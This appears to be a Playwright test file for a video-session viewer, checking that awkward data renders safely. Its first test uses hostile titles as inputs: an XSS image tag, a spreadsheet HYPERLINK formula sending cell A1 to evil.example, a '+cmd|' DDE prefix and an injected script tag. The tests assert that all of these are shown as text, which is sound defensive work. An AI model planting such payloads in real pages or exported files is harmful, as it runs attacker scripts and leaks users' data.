import type { Page } from "playwright/test";
import { stories } from "../simulator/stories";
import { expect, region, test, tile } from "./fixtures";
import {
  chooseRow,
  chooseSession,
  factsOf,
  fieldGroup,
  openAllGroups,
  openViewer,
  rowButtons,
  trustLine,
  widthBeyondWindow,
} from "./viewer-page";

/** Collects dialogs, errors and blocked scripts. None of them may occur. */
function watchForTrouble(page: Page): readonly string[] {
  const trouble: string[] = [];
  page.on("dialog", async (dialog) => {
    trouble.push(`dialog: ${dialog.message()}`);
    await dialog.dismiss();
  });
  page.on("pageerror", ({ message }) => trouble.push(`error: ${message}`));
  page.on("console", (message) => {
    if (message.type() === "error") trouble.push(`console: ${message.text()}`);
  });
  return trouble;
}

test("markup, formulas and invisible characters are shown as text everywhere", async ({ page }) => {
  const trouble = watchForTrouble(page);
  await openViewer(page, stories.awkwardText.viewerId);
  await expect(rowButtons(page)).toHaveCount(stories.awkwardText.sessions24h);
  const heading = region(page, "Session details").getByRole("heading", { level: 3 });
  for (const [index, title] of [
    "<img src=x onerror=alert(1)>",
    '=HYPERLINK("https://evil.example/?"&A1,"Refund")',
    /evil.+مسلسل الشتاء/u,
    /^Zero.Width/u,
    /^Endless (very long title ){640}/u,
    /^\+1\+cmd\|.*<\/script><script>alert\(2\)<\/script>$/u,
  ].entries()) {
    await chooseRow(page, index);
    await expect(heading).toHaveText(title);
    // Right-to-left text must not change the direction of the text around it.
    await expect(heading.locator("bdi")).toHaveText(title);
    await openAllGroups(page);
  }
  await expect(page.getByRole("img", { name: /x/u })).toHaveCount(0);
  await expect(page.getByRole("link", { name: "Refund" })).toHaveCount(0);
  expect(trouble).toEqual([]);
});

test("a title of ten kilobytes doesn't widen the page", async ({ page }) => {
  await page.setViewportSize({ width: 320, height: 700 });
  await openViewer(page, stories.awkwardText.viewerId);
  await chooseRow(page, 4);
  await expect(region(page, "Session details").getByRole("heading", { level: 3 })).toContainText("Endless very long");
  await openAllGroups(page);
  expect(await widthBeyondWindow(page)).toBe(0);
});

test("numbers and flags sent as text are read, and unreadable measurements count as not measured", async ({
  page,
}) => {
  const trouble = watchForTrouble(page);
  await openViewer(page, stories.awkwardTypes.viewerId);
  await expect(rowButtons(page)).toHaveCount(stories.awkwardTypes.sessions24h);
  await expect(rowButtons(page).and(page.getByRole("button", { name: "Start failure, technical" }))).toHaveCount(1);
  await chooseSession(page);
  await openAllGroups(page);
  expect(await factsOf(fieldGroup(page, "Lifetime metrics"))).toMatchObject({
    "Playing time": expect.stringMatching(/min/u),
    "Average peak bitrate": expect.stringMatching(/Mbit\/s/u),
  });
  await chooseRow(page, 2);
  await openAllGroups(page);
  expect(await factsOf(fieldGroup(page, "Lifetime metrics"))).toMatchObject({
    "Video restart time": "Not measured",
    "Paused time": "Not measured",
    "Rebuffering ratio": "Not measured",
    "Average peak bitrate": "Not measured",
    "Bitrate switches": "Not measured",
    "Average frame rate": "Not measured",
    "Last playhead position": "Not measured",
  });
  expect(await factsOf(fieldGroup(page, "Content"))).toMatchObject({ Length: "Not measured" });
  expect(trouble).toEqual([]);
});

test("contradictory flags are resolved, and unknown statuses are shown as sent", async ({ page }) => {
  const trouble = watchForTrouble(page);
  await openViewer(page, stories.awkwardStatus.viewerId);
  await expect(trustLine(page)).toHaveText(/ in 9 sessions · 4 ongoing · complete$/u);
  await expect(page.getByRole("button", { name: ", Ongoing, " }).and(rowButtons(page))).toHaveCount(4);
  await expect(page.getByRole("button", { name: ", Start failure, technical, " }).and(rowButtons(page))).toHaveCount(
    2,
  );
  const details = region(page, "Session details");
  for (let row = 0; row < stories.awkwardStatus.sessions24h; row += 1) {
    await chooseRow(page, row);
    await expect(details).not.toContainText(/\[object Object\]|undefined|NaN/u);
  }
  await chooseRow(page, 5);
  await expect(details).toContainText("Failed to load the media segment");
  await chooseRow(page, 6);
  await expect(details).toContainText("Terminated By Cosmic Ray");
  expect(trouble).toEqual([]);
});

test("invalid addresses, places and CDNs don't break the session details", async ({ page }) => {
  const trouble = watchForTrouble(page);
  await openViewer(page, stories.awkwardNetwork.viewerId);
  await expect(rowButtons(page)).toHaveCount(stories.awkwardNetwork.sessions24h);
  for (let row = 0; row < stories.awkwardNetwork.sessions24h; row += 1) {
    await chooseRow(page, row);
  }
  await chooseRow(page, 1);
  await openAllGroups(page);
  expect(await factsOf(fieldGroup(page, "Network"))).toMatchObject({ ISP: "–", "IP address": "–" });
  await chooseRow(page, 4);
  await openAllGroups(page);
  expect(await factsOf(fieldGroup(page, "Network"))).toMatchObject({ CDN: "AKAMAI, FASTLY" });
  expect(trouble).toEqual([]);
});

test("missing groups are dashes, not errors", async ({ page }) => {
  const trouble = watchForTrouble(page);
  await openViewer(page, stories.awkwardMissing.viewerId);
  await expect(tile(page, "Plays")).toBeVisible();
  for (let row = 0; row < stories.awkwardMissing.sessions24h; row += 1) {
    await chooseRow(page, row);
  }
  await chooseRow(page, 4);
  await openAllGroups(page);
  expect(await factsOf(fieldGroup(page, "Content"))).toEqual({
    Title: "–",
    Category: "–",
    Length: "Not measured",
    "Stream URL": "–",
  });
  await expect(fieldGroup(page, "Selected dimensions")).toContainText("None sent");
  expect(trouble).toEqual([]);
});
